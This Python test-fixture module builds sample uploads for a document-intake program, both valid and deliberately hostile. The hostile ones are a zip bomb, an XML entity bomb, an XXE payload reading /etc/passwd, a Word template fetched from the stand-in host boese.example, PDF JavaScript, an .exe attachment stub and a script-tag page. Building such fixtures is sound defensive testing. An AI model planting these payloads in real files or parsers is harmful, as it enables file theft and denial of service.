"""Files as people hand them in, whole and damaged; all made here, none of them real."""

import base64
import io
import zipfile
import zlib

from docx import Document
from PIL import Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from xlsxwriter import Workbook

# 64 × 48 pixels with a description and an author, by an encoder that the program does not have.
_HEIC = """
AAAAHGZ0eXBoZWljAAAAAG1pZjFoZWljbWlhZgAAAb5tZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAA
AAAAAAAAAAADRpbG9jAAAAAERAAAIAAQAAAAAB4gABAAAAAAAAABkAAgAAAAAB+wABAAAAAAAAAEYAAAA4aWluZgAA
AAAAAgAAABVpbmZlAgAAAAABAABodmMxAAAAABVpbmZlAgAAAQACAABFeGlmAAAAAA5waXRtAAAAAAABAAAA/Wlwcn
AAAADdaXBjbwAAAHZodmNDAQNwAAAAkAAAAAAAHvAA/P34+AAADwNgAAEAGEABDAH//wNwAAADAJAAAAMAAAMAHroC
QGEAAQAqQgEBA3AAAAMAkAAAAwAAAwAeoCCBBZbq5Ka5uAhoMCAAAAMDIAAAAwAhYgABAAZEAcFzwIkAAAATY29scm
5jbHgAAQANAAaAAAAAFGlzcGUAAAAAAAAAQAAAAEAAAAAoY2xhcAAAAEAAAAABAAAAMAAAAAEAAAAAAAAAAv////AA
AAACAAAAEHBpeGkAAAAAAwgICAAAABhpcG1hAAAAAAAAAAEAAQWBAgMFhAAAABppcmVmAAAAAAAAAA5jZHNjAAIAAQ
ABAAAAZ21kYXQAAAAVKAGvBBj4ynHX//Syn76gLtjdIR5wAAAABkV4aWYAAE1NACoAAAAIAAIBDgACAAAADgAAACYB
OwACAAAACAAAADQAAAAARnJhdSBCZWlzcGllbABBdXRvcmluAA==
"""
AUTHOR, PLACE_TAG = "Frau Beispiel", 0x8825  # EXIF: the place where a picture was taken
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def pdf(text: str = "Antrag der Fraktion", *, title: str = "Antrag", language: str = "de-DE"):
    """One page, with a text layer unless the text is empty."""
    return _finished(_pages([text]), title, language)


def scanned_pdf(pages: int = 1) -> bytes:
    return _finished(_pages([""] * pages), "", "")


def half_scanned_pdf() -> bytes:
    return _finished(_pages(["Erste Seite mit Text", ""]), "Halb", "de-DE")


def scripted_pdf() -> bytes:
    writer = _pages(["Formular"])
    script = {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert('Hallo');")}
    action = DictionaryObject({NameObject(key): value for key, value in script.items()})
    writer.root_object[NameObject("/OpenAction")] = action
    return _finished(writer, "Formular", "de-DE")


def pdf_with_attachment() -> bytes:
    writer = _pages(["Mit Anlage"])
    writer.add_attachment("anlage.exe", b"MZ")
    return _finished(writer, "Mit Anlage", "de-DE")


def locked_pdf() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt("geheim", algorithm="RC4-128")
    return _bytes(writer)


def _pages(texts: list[str]) -> PdfWriter:
    """By hand: no library of the program draws pages."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"",
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    kids = []
    for text in texts:
        drawn = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET" if text else "0 0 100 100 re f"
        stream = drawn.encode("cp1252")
        objects.append(b"<</Length %d>>stream\n%s\nendstream" % (len(stream), stream))
        objects.append(
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents %d 0 R"
            b"/Resources<</Font<</F1 3 0 R>>>>>>" % len(objects)
        )
        kids.append(len(objects))
    objects[1] = b"<</Type/Pages/Count %d/Kids[%s]>>" % (
        len(kids),
        b" ".join(b"%d 0 R" % one for one in kids),
    )
    body, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj%s\nendobj\n" % (number, one)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    end = (
        b"xref\n0 %d\n0000000000 65535 f \n%strailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF"
    )
    return PdfWriter(clone_from=PdfReader(io.BytesIO(body + end % (size, table, size, len(body)))))


def _finished(writer: PdfWriter, title: str, language: str) -> bytes:
    if title:
        writer.add_metadata({"/Title": title})
    if language:
        writer.root_object[NameObject("/Lang")] = TextStringObject(language)
    return _bytes(writer)


def _bytes(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def docx(text: str = "Straßenbäume in Köln-Nippes", *, author: str = "") -> bytes:
    document = Document()
    document.core_properties.title, document.core_properties.author = "Vorlage", author
    document.core_properties.last_modified_by = author
    document.add_paragraph(text)
    table = document.add_table(1, 2)
    table.cell(0, 0).text, table.cell(0, 1).text = "Kosten", "12 Euro"
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def xlsx(text: str = "Zuschüsse") -> bytes:
    buffer = io.BytesIO()
    with Workbook(buffer, {"in_memory": True}) as book:
        book.add_worksheet().write_string(0, 0, text)
    return buffer.getvalue()


def pptx(text: str = "Vortrag") -> bytes:
    kind = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    slide = f'<p xmlns:a="a"><a:t>{text}</a:t></p>'
    return packed(
        types("/ppt/presentation.xml", kind)
        | {"ppt/presentation.xml": "<p/>", "ppt/slides/slide1.xml": slide}
    )


def odt(text: str = "Stellungnahme der Verwaltung") -> bytes:
    content = f'<d xmlns:t="t"><t:p>{text} <t:span>mit</t:span> Betonung</t:p></d>'
    mimetype = "application/vnd.oasis.opendocument.text"
    return packed({"mimetype": mimetype, "content.xml": content, "META-INF/manifest.xml": "<m/>"})


def types(part: str, kind: str) -> dict[str, str]:
    return {
        "[Content_Types].xml": f'<Types><Override PartName="{part}" ContentType="{kind}"/></Types>'
    }


def packed(parts: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def with_part(data: bytes, name: str, content: str | bytes) -> bytes:
    """The same archive with one part more, or another one in its place."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {one: archive.read(one) for one in archive.namelist()}
    return packed(parts | {name: content})


def with_macros() -> bytes:
    return with_part(docx(), "word/vbaProject.bin", b"\x00")


def bomb() -> bytes:
    """A document of 200 MB in 200 kB."""
    return with_part(docx(), "word/document.xml", b"<a>" + b" " * 200_000_000 + b"</a>")


def entity_bomb() -> bytes:
    lol = '<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
    return with_part(docx(), "docProps/core.xml", f"{lol}<l>&b;</l>")


def reads_other_files() -> bytes:
    dtd = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return with_part(docx(), "docProps/core.xml", f"{dtd}<w>&x;</w>")


def with_remote_template() -> bytes:
    one = (
        '<Relationships><Relationship Id="r" TargetMode="External" '
        'Target="https://boese.example/x.dotm" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
        "</Relationships>"
    )
    return with_part(docx(), "word/_rels/settings.xml.rels", one)


def with_tracked_changes() -> bytes:
    changed = (
        f"<w:document {_W}><w:body><w:del><w:r><w:t>alt</w:t></w:r></w:del></w:body></w:document>"
    )
    return with_part(docx(), "word/document.xml", changed)


def old_word() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000)


def photo() -> bytes:
    """A JPEG lying on its side, with place and author."""
    exif = Image.Exif()
    exif[0x0112], exif[0x013B] = 6, AUTHOR
    exif.get_ifd(PLACE_TAG)[2] = (50.0, 56.0, 11.0)
    buffer = io.BytesIO()
    Image.new("RGB", (40, 20), "red").save(buffer, "JPEG", exif=exif, comment=AUTHOR.encode())
    return buffer.getvalue()


def png() -> bytes:
    texts = PngImagePlugin.PngInfo()
    texts.add_text("Author", AUTHOR)
    exif = Image.Exif()
    exif[0x013B] = AUTHOR
    buffer = io.BytesIO()
    Image.new("RGBA", (30, 20), (0, 0, 255, 128)).save(buffer, "PNG", pnginfo=texts, exif=exif)
    return buffer.getvalue()


def heic() -> bytes:
    return base64.b64decode(_HEIC)


def endless_png() -> bytes:
    """Said to be 60,000 pixels wide and high, in few bytes."""

    def chunk(name: bytes, data: bytes) -> bytes:
        summed = zlib.crc32(name + data).to_bytes(4, "big")
        return len(data).to_bytes(4, "big") + name + data + summed

    size = (60_000).to_bytes(4, "big") * 2
    head = chunk(b"IHDR", size + b"\x08\x02\x00\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n"
        + head
        + chunk(b"IDAT", zlib.compress(bytes(1_000)))
        + chunk(b"IEND", b"")
    )


def truncated(data: bytes) -> bytes:
    return data[: len(data) // 3]


def web_page() -> bytes:
    return b"<!doctype html><script>alert(1)</script>"


def program() -> bytes:
    return b"MZ\x90\x00" + bytes(500)
